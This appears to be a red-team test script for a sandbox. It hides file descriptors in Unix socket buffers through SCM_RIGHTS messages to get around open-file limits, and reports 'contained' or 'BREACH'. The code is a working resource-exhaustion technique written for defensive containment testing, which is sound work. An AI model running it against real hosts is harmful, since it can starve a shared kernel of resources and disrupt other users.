# /// redteam
# category = "descriptor"
# limits = { wall_s = 4.0 }
# ///
"""Hides descriptors in socket buffers and closes its own copies, past any limit on open files."""

import array
import os
import socket

number, keep = 0, []
try:
    while number < 1_000_000:
        left, right = socket.socketpair()
        left.setblocking(False)
        keep.append((left, right))
        spare = [os.open("/dev/null", os.O_RDONLY) for _ in range(50)]
        try:
            while number < 1_000_000:
                left.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", spare))])
                number += len(spare)
        except BlockingIOError:
            pass
        for descriptor in spare:
            os.close(descriptor)
except OSError:
    pass
print("contained" if number < 1_000_000 else "BREACH a million descriptors in flight")
